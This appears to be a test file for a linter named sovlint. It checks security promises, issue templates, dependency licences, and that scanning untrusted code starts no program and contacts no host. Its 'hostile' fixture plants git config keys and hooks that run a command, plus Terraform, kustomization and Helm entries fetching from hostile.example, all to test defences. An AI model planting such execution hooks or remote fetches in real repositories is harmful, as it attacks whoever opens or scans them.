"""Why somebody may run sovlint on code that nobody vouches for: what SECURITY.md promises is tested, dependencies have
licences that suit, and who finds a fault is asked for what is needed."""

from __future__ import annotations

import ast
import os
import re
import sys
import tomllib
from importlib.metadata import Distribution, distribution
from pathlib import Path
from typing import Any

import pytest
import yaml
from packaging.requirements import Requirement

from tests import ci_schemas, scratch
from tests.scratch import ROOT

SECURITY = (ROOT / "SECURITY.md").read_text(encoding="utf-8")
PROMISED = sorted(set(re.findall(r"`(tests/[\w/.:]+)`", SECURITY)))
TEMPLATES = sorted((ROOT / ".github/ISSUE_TEMPLATE").glob("*.yml"))
LICENCES: dict[str, dict[str, str]] = yaml.safe_load(
    (ROOT / "tests/licences.yaml").read_text(encoding="utf-8")
)
DEVELOPMENT = {"dev", "fuzz"}
"""Extras that no user installs."""

WATCHED = """
import sys
told = open(sys.argv.pop(1), "w")
reaching = ("socket.", "subprocess.", "os.system", "os.exec", "os.posix_spawn", "os.startfile", "os.remove",
            "os.rename", "os.mkdir", "os.rmdir", "shutil.")
def hook(event, arguments):
    if event == "open" and isinstance(arguments[1], str) and set(arguments[1]) & set("wax+"):
        print("write", arguments[0], file=told, flush=True)
    elif event.startswith(reaching) and event != "socket.__new__":
        print(event, arguments[0], file=told, flush=True)
sys.addaudithook(hook)
sys.dont_write_bytecode = True
from sovlint.cli import main
main()
"""
"""Runs sovlint and writes down what it asks of the system beyond reading."""


class TestPromises:
    @pytest.mark.parametrize("name", PROMISED)
    def test_each_names_a_test_that_is_there(self, name: str) -> None:
        path, *parts = name.split("::")
        body = ast.parse((ROOT / path).read_text(encoding="utf-8")).body
        for part in parts:
            (found,) = (
                each
                for each in body
                if isinstance(each, (ast.ClassDef, ast.FunctionDef)) and each.name == part
            )
            body = found.body

    def test_none_is_without(self) -> None:
        promises = SECURITY.partition("## What is promised")[2].partition("\n## ")[0]
        for promise in promises.split("\n- ")[1:]:
            assert "`tests/" in promise, promise


def watched(folder: Path, env: dict[str, str], *arguments: str) -> tuple[int, list[str]]:
    """The exit code of a scan of ``folder``, and what it asked of the system."""
    told = folder.parent / "told"
    script = folder.parent / "watched.py"
    script.write_text(WATCHED)
    done = scratch.run(
        sys.executable, script, told, "scan", *arguments, cwd=folder, env={**env, "PYTHONPATH": str(ROOT)}
    )  # fmt: skip
    assert "Traceback" not in done.stdout, done.stdout
    return done.returncode, told.read_text().splitlines()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str]]:
    """The insurer's repository, where git's configuration, attributes and hooks name a program, and code asks for
    programs and addresses."""
    home = tmp_path_factory.mktemp("hostile")
    env = scratch.environment(home)
    folder = scratch.insurer(home / "repository", env)
    program = f"touch {home}/ran"
    for key in ("core.fsmonitor", "core.sshCommand", "core.pager", "filter.a.smudge", "filter.a.clean"):  # fmt: skip
        scratch.git(folder, env, "config", key, program)
    scratch.write(
        folder,
        {
            ".gitattributes": "* filter=a\n",
            "asks/main.tf": (
                f'data "external" "it" {{\n  program = ["touch", "{home}/ran"]\n}}\n'
                'data "http" "it" {\n  url = "https://hostile.example/"\n}\n'
                'module "it" {\n  source = "git::https://hostile.example/m.git"\n}\n'
            ),
            "asks/kustomization.yaml": "resources: [https://hostile.example/a.yaml]\n",
            "asks/Chart.yaml": "apiVersion: v2\nname: a\nversion: 1.0.0\ndependencies: [{name: b, version: 1, repository: https://hostile.example}]\n",
        },
    )
    for name in ("post-checkout", "post-index-change", "reference-transaction"):
        hook = folder / ".git/hooks" / name
        hook.parent.mkdir(exist_ok=True)
        hook.write_text(f"#!/bin/sh\n{program}\n")
        hook.chmod(0o755)
    return folder, env


@pytest.mark.parametrize(
    "options", [(), ("--diff-base", "origin/main")], ids=["scan", "base"]
)
def test_a_scan_starts_no_program_but_git_and_asks_nobody(
    hostile: tuple[Path, dict[str, str]], options: tuple[str, ...]
) -> None:
    folder, env = hostile
    code, told = watched(folder, env, "--format", "sarif", *options)
    assert code == 1
    started = [line for line in told if not line.startswith(("write ", "os.", "shutil."))]
    assert started or not options, "the other revision is read by git: the watch sees it"
    assert {line.split()[0] for line in started} <= {"subprocess.Popen"}
    assert {Path(line.split()[1]).name for line in started} <= {"git"}
    assert not (folder.parent / "ran").exists()


def test_a_scan_writes_nothing(hostile: tuple[Path, dict[str, str]]) -> None:
    folder, env = hostile
    _, told = watched(folder, env, "--format", "json")
    changes = [line for line in told if line.startswith(("write ", "os.", "shutil."))]
    assert [line for line in changes if line != f"write {os.devnull}"] == []


class TestIssueTemplates:
    def test_there_is_one_for_each_kind_of_fault(self) -> None:
        assert [each.stem for each in TEMPLATES] == [
            "config", "crash", "missing-fact", "wrong-question", "wrong-verdict",
        ]  # fmt: skip

    @pytest.mark.parametrize("path", TEMPLATES, ids=lambda path: path.stem)
    def test_it_is_valid(self, path: Path) -> None:
        name = "github-issue-config" if path.stem == "config" else "github-issue-forms"
        assert ci_schemas.problems_of(path.read_text(encoding="utf-8"), name) == []

    def test_they_would_tell(self) -> None:
        assert ci_schemas.problems_of("name: a\n", "github-issue-forms")

    def test_nobody_is_named(self) -> None:
        for text in (SECURITY, *(each.read_text(encoding="utf-8") for each in TEMPLATES)):
            assert "@" not in text
            assert "http" not in text


def needed() -> dict[str, Distribution]:
    """What the core and the extras for users need, and what that needs itself, as it is installed here."""
    project: dict[str, Any] = tomllib.loads(
        (ROOT / "pyproject.toml").read_text(encoding="utf-8")
    )["project"]
    extras = project["optional-dependencies"]
    names = [
        *project["dependencies"],
        *(each for extra in extras.keys() - DEVELOPMENT for each in extras[extra]),
    ]
    found: dict[str, Distribution] = {}
    wanted = [Requirement(each) for each in names]
    seen: set[str] = set()
    while wanted:
        asked = wanted.pop()
        if str(asked) in seen:
            continue
        seen.add(str(asked))
        made = found[asked.name.lower()] = distribution(asked.name)
        for each in map(Requirement, made.requires or ()):
            environments = [{"extra": extra} for extra in ("", *asked.extras)]
            if each.marker is None or any(map(each.marker.evaluate, environments)):
                wanted.append(each)
    return found


def licence_of(metadata: Any) -> str:
    """The licence that a package states, as an expression of SPDX where it can be had, else as it is written."""
    stated = metadata.get("License-Expression")
    if stated:
        return str(stated)
    classifiers = [
        each for each in metadata.get_all("Classifier") or () if each.startswith("License ::")
    ]
    written = classifiers or [metadata.get("License") or ""]
    return " OR ".join(LICENCES["means"].get(each, each) for each in written)


def suits(expression: str) -> bool:
    """Whether one of the choices (OR) has nothing but accepted parts (AND)."""
    choices = re.sub(r"[()]", "", expression).split(" OR ")
    return any(
        all(part.strip() in LICENCES["accepted"] for part in choice.split(" AND "))
        for choice in choices
    )


class TestLicences:
    def test_of_everything_that_a_user_installs(self) -> None:
        stated = {name: licence_of(each.metadata) for name, each in needed().items()}
        assert len(stated) > 40
        assert {name: each for name, each in stated.items() if not suits(each)} == {}

    def test_the_list_has_nothing_that_nobody_needs(self) -> None:
        stated = " ".join(licence_of(each.metadata) for each in needed().values())
        assert [name for name in LICENCES["accepted"] if name not in stated] == []

    @pytest.mark.parametrize(
        ("expression", "good"),
        [
            ("MIT", True),
            ("GPL-3.0-only OR MIT", True),
            ("Apache-2.0 AND GPL-2.0-only", False),
            ("AGPL-3.0-or-later", False),
            ("LGPL-2.1 OR (MIT AND SSPL-1.0)", False),
            ("", False),
            ("Proprietary", False),
        ],
    )
    def test_what_suits(self, expression: str, good: bool) -> None:
        assert suits(expression) is good

    def test_a_classifier_that_nobody_knows_is_told(self) -> None:
        class Metadata(dict[str, Any]):
            def get_all(self, name: str) -> list[str]:
                return ["License :: OSI Approved :: GNU General Public License v3 (GPLv3)"]

        assert not suits(licence_of(Metadata()))
